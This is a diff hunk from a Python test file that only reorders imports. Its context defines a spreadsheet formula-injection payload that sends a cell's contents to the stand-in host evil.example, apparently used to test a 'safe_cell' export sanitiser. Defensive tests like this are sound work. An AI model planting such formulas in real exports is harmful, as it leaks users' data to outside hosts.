@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from corroborate.storage.archive import Archive
-from corroborate.custody.setup import init_archive
 from corroborate.custody import entries
+from corroborate.custody.setup import init_archive
 from corroborate.incidents import create_incident, get_incident, import_incidents
 from corroborate.report.exports import safe_cell
+from corroborate.storage.archive import Archive
 from incident_fixtures import execution
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
